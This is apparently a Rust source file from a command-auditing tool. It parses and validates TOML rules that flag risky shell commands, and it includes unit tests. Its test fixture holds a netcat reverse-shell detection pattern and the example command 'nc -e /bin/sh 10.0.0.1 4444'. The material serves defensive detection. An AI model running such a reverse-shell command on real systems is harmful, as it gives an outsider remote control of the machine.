//! Risky-command rules as data: the file format, its validation and where rules come from.
//!
//! One TOML file per rule under `queries/rules/<topic>/` (shipped inside the binary) and under
//! any `--rules DIR`. Unknown fields are rejected, patterns must compile, ids must be unique, and
//! every rule carries examples that must and must not match (`execaudit rules test` runs them).
//! The format is documented in `docs/rules.md`.

use std::path::Path;

use serde::Deserialize;
use toml::Spanned;

use super::severity::Severity;
use super::toml_file::{FileError, Source};

mod shipped {
    include!(concat!(env!("OUT_DIR"), "/shipped_rules.rs"));
}

/// The rule files compiled into the binary: (path, contents).
pub fn shipped_files() -> &'static [(&'static str, &'static str)] {
    shipped::SHIPPED_RULES
}

/// Start of a command word: the start of the text or of a pipeline element, a `-c '` script,
/// after wrappers such as `sudo`, `env X=1`, `xargs`, `timeout 5`, and an optional path
/// (`/usr/bin/`). Written `{cmd}` in patterns.
pub const CMD: &str = r#"(?:^|[;&|(`\n{]|\$\(|-c\s+['"]?)\s*(?:(?:sudo(?:\s+-\S+)*|exec|nohup|time|command|builtin|busybox|xargs(?:\s+-\S+)*|timeout(?:\s+-\S+)*\s+\S+|watch(?:\s+-\S+)*|nice(?:\s+-n\s*\S+)?|ionice(?:\s+-\S+)*|stdbuf(?:\s+-\S+)*|env(?:\s+-\S+)*|[A-Za-z_][A-Za-z0-9_]*=\S*)\s+)*(?:[^\s;&|'"`]*/)?"#;
/// End of a word: end of text, whitespace, an operator, a quote. Written `{end}` in patterns.
pub const END: &str = r#"(?:$|[\s;&|)'"`}])"#;

/// Expands the `{cmd}` and `{end}` shorthands of a pattern.
pub fn expand(pattern: &str) -> String {
    pattern.replace("{cmd}", CMD).replace("{end}", END)
}

/// Which text a rule reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Target {
    /// Commands reconstructed from transcripts.
    Command,
    /// The `ExecuteCommand` command string (one-shot commands run without a shell included).
    ExecuteCommand,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleFile {
    id: Spanned<String>,
    title: Spanned<String>,
    severity: Severity,
    description: Spanned<String>,
    #[serde(default)]
    looks_at: Option<Spanned<Vec<Target>>>,
    #[serde(default)]
    tags: Vec<Spanned<String>>,
    #[serde(rename = "match")]
    matcher: Spanned<MatchFile>,
    examples: Spanned<ExamplesFile>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MatchFile {
    #[serde(default)]
    any: Vec<Spanned<String>>,
    #[serde(default)]
    all: Vec<Spanned<String>>,
    #[serde(default)]
    not: Vec<Spanned<String>>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ExamplesFile {
    #[serde(rename = "match", default)]
    matching: Vec<String>,
    #[serde(default)]
    no_match: Vec<String>,
}

/// One pattern of a rule, as written and expanded.
#[derive(Debug, Clone, PartialEq)]
pub struct PatternSource {
    /// As written in the file.
    pub text: String,
    /// With `{cmd}`/`{end}` expanded: what is compiled.
    pub expanded: String,
    /// Line in the rule file.
    pub line: usize,
    /// `expanded` compiled (once, when the rule was validated).
    pub regex: Compiled,
}

/// A compiled pattern (equal when compiled from the same text).
#[derive(Debug, Clone)]
pub struct Compiled(pub regex::bytes::Regex);

impl PartialEq for Compiled {
    fn eq(&self, other: &Compiled) -> bool {
        self.0.as_str() == other.0.as_str()
    }
}

/// A validated rule (not yet compiled into a [`super::engine::RuleSet`]).
#[derive(Debug, Clone, PartialEq)]
pub struct Rule {
    /// Stable id (`credential-access-task-credentials`).
    pub id: String,
    /// One line for people.
    pub title: String,
    /// How bad a match is.
    pub severity: Severity,
    /// What it catches and why it matters.
    pub description: String,
    /// Whether it reads reconstructed commands.
    pub on_commands: bool,
    /// Whether it reads `ExecuteCommand` command strings.
    pub on_execute_command: bool,
    /// MITRE ATT&CK ids.
    pub tags: Vec<String>,
    /// At least one must match (when not empty).
    pub any: Vec<PatternSource>,
    /// Every one must match.
    pub all: Vec<PatternSource>,
    /// None may match.
    pub not: Vec<PatternSource>,
    /// Texts the rule must match.
    pub examples_match: Vec<String>,
    /// Texts the rule must not match.
    pub examples_no_match: Vec<String>,
    /// The file it came from.
    pub file: String,
    /// The line of its `id`.
    pub line: usize,
}

fn valid_id(id: &str) -> bool {
    !id.is_empty()
        && id.len() <= 80
        && id.split('-').all(|p| {
            !p.is_empty()
                && p.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
        })
}

fn valid_tag(tag: &str) -> bool {
    let digits = |s: &str, n: usize| s.len() == n && s.bytes().all(|b| b.is_ascii_digit());
    if let Some(rest) = tag.strip_prefix("TA") {
        return digits(rest, 4);
    }
    match tag
        .strip_prefix('T')
        .map(|r| r.split_once('.').unwrap_or((r, "")))
    {
        Some((t, "")) => digits(t, 4),
        Some((t, sub)) => digits(t, 4) && digits(sub, 3),
        None => false,
    }
}

/// Compiles one pattern the way the engine does (case-insensitive, ASCII classes, bytes).
pub fn compile(expanded: &str) -> Result<regex::bytes::Regex, regex::Error> {
    regex::bytes::RegexBuilder::new(expanded)
        .case_insensitive(true)
        .unicode(false)
        .size_limit(1 << 22)
        .build()
}

/// Parses and validates one rule file.
pub fn parse_rule(file: &str, text: &str) -> Result<Rule, FileError> {
    let src = Source { file, text };
    let raw: RuleFile = src.parse()?;
    let id_line = src.line_of(raw.id.span().start);
    if !valid_id(raw.id.get_ref()) {
        return Err(src.error(
            raw.id.span(),
            "id",
            format!(
                "{:?} is not a valid id: lowercase letters and digits in dash-separated words",
                raw.id.get_ref()
            ),
        ));
    }
    for (field, v) in [("title", &raw.title), ("description", &raw.description)] {
        if v.get_ref().trim().is_empty() {
            return Err(src.error(v.span(), field, "must not be empty"));
        }
    }
    let (on_commands, on_execute_command) = match &raw.looks_at {
        None => (true, true),
        Some(t) if t.get_ref().is_empty() => {
            return Err(src.error(
                t.span(),
                "looks_at",
                "must name at least one of command, execute_command",
            ))
        }
        Some(t) => (
            t.get_ref().contains(&Target::Command),
            t.get_ref().contains(&Target::ExecuteCommand),
        ),
    };
    for t in &raw.tags {
        if !valid_tag(t.get_ref()) {
            return Err(src.error(
                t.span(),
                "tags",
                format!(
                    "{:?} is not a MITRE ATT&CK id (T1059, T1552.005, TA0005)",
                    t.get_ref()
                ),
            ));
        }
    }
    let m = raw.matcher.get_ref();
    if m.any.is_empty() && m.all.is_empty() {
        return Err(src.error(
            raw.matcher.span(),
            "match",
            "needs at least one pattern in `any` or `all`",
        ));
    }
    let patterns =
        |list: &[Spanned<String>], field: &str| -> Result<Vec<PatternSource>, FileError> {
            list.iter()
                .enumerate()
                .map(|(i, p)| {
                    let expanded = expand(p.get_ref());
                    let regex = compile(&expanded).map_err(|e| {
                        src.error(
                            p.span(),
                            &format!("match.{field}[{i}]"),
                            format!(
                                "pattern does not compile: {}",
                                e.to_string().replace('\n', "\n    ")
                            ),
                        )
                    })?;
                    if regex.is_match(b"") {
                        return Err(src.error(
                            p.span(),
                            &format!("match.{field}[{i}]"),
                            "pattern matches the empty string, so it matches every command",
                        ));
                    }
                    Ok(PatternSource {
                        text: p.get_ref().clone(),
                        expanded,
                        line: src.line_of(p.span().start),
                        regex: Compiled(regex),
                    })
                })
                .collect()
        };
    let any = patterns(&m.any, "any")?;
    let all = patterns(&m.all, "all")?;
    let not = patterns(&m.not, "not")?;
    let ex = raw.examples.get_ref();
    if ex.matching.is_empty() || ex.no_match.is_empty() {
        return Err(src.error(
            raw.examples.span(),
            "examples",
            "needs at least one `match` and one `no_match` example",
        ));
    }
    Ok(Rule {
        id: raw.id.into_inner(),
        title: raw.title.into_inner().trim().to_owned(),
        severity: raw.severity,
        description: raw.description.into_inner().trim().to_owned(),
        on_commands,
        on_execute_command,
        tags: raw.tags.into_iter().map(Spanned::into_inner).collect(),
        any,
        all,
        not,
        examples_match: ex.matching.clone(),
        examples_no_match: ex.no_match.clone(),
        file: file.to_owned(),
        line: id_line,
    })
}

/// Rules read from the shipped pack and the user's folders, and the files that failed.
#[derive(Debug, Default)]
pub struct Loaded {
    /// Valid rules with unique ids, shipped first, then each folder's in path order.
    pub rules: Vec<Rule>,
    /// Every problem met: bad files and duplicate ids.
    pub errors: Vec<FileError>,
}

/// Reads the shipped rules and every `*.toml` under each of `dirs` (recursively, in path
/// order), validating each file and the uniqueness of ids.
pub fn load(dirs: &[&Path]) -> Loaded {
    let mut files: Vec<(String, Result<String, String>)> = shipped_files()
        .iter()
        .map(|(p, t)| ((*p).to_owned(), Ok((*t).to_owned())))
        .collect();
    for dir in dirs {
        if !dir.is_dir() {
            files.push((
                dir.display().to_string(),
                Err("--rules: not a folder (or it cannot be read)".to_owned()),
            ));
            continue;
        }
        // A file linked into the folder is read (one linked in from a shared checkout was
        // passed over, and lint said all was valid); a linked folder is not entered (no loops,
        // and `current -> v2` beside `v2/` would load each rule twice). `.TOML` is TOML too.
        let toml = |p: &Path| {
            p.extension()
                .is_some_and(|x| x.eq_ignore_ascii_case("toml"))
        };
        let mut found: Vec<_> = walkdir::WalkDir::new(dir)
            .sort_by_file_name()
            .into_iter()
            .filter_map(|e| match e {
                Ok(e) if e.file_type().is_file() && toml(e.path()) => Some(Ok(e.into_path())),
                Ok(e)
                    if e.file_type().is_symlink()
                        && toml(e.path())
                        && std::fs::metadata(e.path()).is_ok_and(|m| m.is_file()) =>
                {
                    Some(Ok(e.into_path()))
                }
                Ok(_) => None,
                Err(e) => Some(Err(e)),
            })
            .collect();
        // Errors first, then files in path order (a total order).
        found.sort_by(|a, b| match (a, b) {
            (Ok(a), Ok(b)) => a.cmp(b),
            (Err(_), Ok(_)) => std::cmp::Ordering::Less,
            (Ok(_), Err(_)) => std::cmp::Ordering::Greater,
            (Err(_), Err(_)) => std::cmp::Ordering::Equal,
        });
        for f in found {
            match f {
                Ok(path) => {
                    let text = std::fs::read_to_string(&path).map_err(|e| e.to_string());
                    files.push((path.display().to_string(), text));
                }
                Err(e) => files.push((
                    e.path()
                        .map_or_else(|| dir.display().to_string(), |p| p.display().to_string()),
                    Err(e.to_string()),
                )),
            }
        }
    }
    // Parsing compiles every pattern (most of the time any command that reads findings takes
    // before it reads data): files are parsed on every core, then taken in path order.
    use rayon::prelude::*;
    let parsed: Vec<Result<Rule, FileError>> = files
        .into_par_iter()
        .map(|(file, text)| match text {
            Err(message) => Err(FileError {
                file,
                line: 0,
                field: String::new(),
                message,
            }),
            Ok(text) => parse_rule(&file, &text),
        })
        .collect();
    let mut loaded = Loaded::default();
    let mut seen: std::collections::HashMap<String, (String, usize)> = Default::default();
    for rule in parsed {
        match rule {
            Err(e) => loaded.errors.push(e),
            Ok(rule) => match seen.get(&rule.id) {
                Some((first, line)) => loaded.errors.push(FileError {
                    file: rule.file.clone(),
                    line: rule.line,
                    field: "id".into(),
                    message: format!("duplicate id {:?}: already used by {first}:{line}", rule.id),
                }),
                None => {
                    seen.insert(rule.id.clone(), (rule.file.clone(), rule.line));
                    loaded.rules.push(rule);
                }
            },
        }
    }
    loaded
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = r#"
id = "demo-rule"
title = "Demo"
severity = "high"
description = "A demo."
tags = ["T1059.004"]

[match]
any = ['{cmd}nc\s+.*-e{end}']
not = ['--help']

[examples]
match = ["nc -e /bin/sh 10.0.0.1 4444"]
no_match = ["nc -zv db 5432"]
"#;

    #[test]
    fn a_good_rule_parses() {
        let r = parse_rule("demo.toml", GOOD).unwrap();
        assert_eq!(r.id, "demo-rule");
        assert_eq!(r.severity, Severity::High);
        assert!(r.on_commands && r.on_execute_command);
        assert_eq!(r.any[0].line, 9);
        assert!(r.any[0].expanded.starts_with("(?:^|"));
    }

    #[test]
    fn mistakes_name_the_line_and_field() {
        let cases = [
            (
                GOOD.replace("severity = \"high\"", "severity = \"hgih\""),
                4,
                "severity",
            ),
            (GOOD.replace("tags =", "tgas ="), 6, "tgas"),
            (GOOD.replace(r"-e{end}']", r"-e{end}(']"), 9, "match.any[0]"),
            (
                GOOD.replace("[\"T1059.004\"]", "[\"execution\"]"),
                6,
                "tags",
            ),
            (
                GOOD.replace("id = \"demo-rule\"", "id = \"Demo Rule\""),
                2,
                "id",
            ),
            (
                GOOD.replace("no_match = [\"nc -zv db 5432\"]", ""),
                12,
                "examples",
            ),
            (
                GOOD.replace("not = ['--help']", "not = ['--help']\nnone = []"),
                11,
                "match.none",
            ),
            (
                GOOD.replace(r"any = ['{cmd}nc\s+.*-e{end}']", r"any = ['x*']"),
                9,
                "match.any[0]",
            ),
        ];
        for (text, line, field) in cases {
            let e = parse_rule("r.toml", &text).unwrap_err();
            assert_eq!((e.line, e.field.as_str()), (line, field), "{e}");
            assert!(
                e.to_string()
                    .starts_with(&format!("r.toml:{line}: {field}: ")),
                "{e}"
            );
        }
    }

    #[test]
    fn ids_and_tags() {
        assert!(valid_id("credential-access-imds") && !valid_id("a--b") && !valid_id("A"));
        assert!(valid_tag("T1059") && valid_tag("T1552.005") && valid_tag("TA0005"));
        assert!(!valid_tag("T159") && !valid_tag("T1552.5") && !valid_tag("x"));
    }

    #[test]
    fn duplicate_ids_and_bad_files_in_a_user_folder_are_reported() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("a.toml"), GOOD).unwrap();
        std::fs::write(dir.path().join("b.toml"), GOOD).unwrap();
        std::fs::write(dir.path().join("c.toml"), "id = ").unwrap();
        std::fs::write(dir.path().join("notes.txt"), "not a rule").unwrap();
        let loaded = load(&[dir.path()]);
        assert_eq!(loaded.rules.len(), shipped_files().len() + 1);
        assert_eq!(loaded.errors.len(), 2, "{:?}", loaded.errors);
        assert!(loaded.errors[0]
            .message
            .contains("duplicate id \"demo-rule\""));
        assert!(loaded.errors[0].file.ends_with("b.toml"));
        assert!(loaded.errors[1].file.ends_with("c.toml"));
    }
}
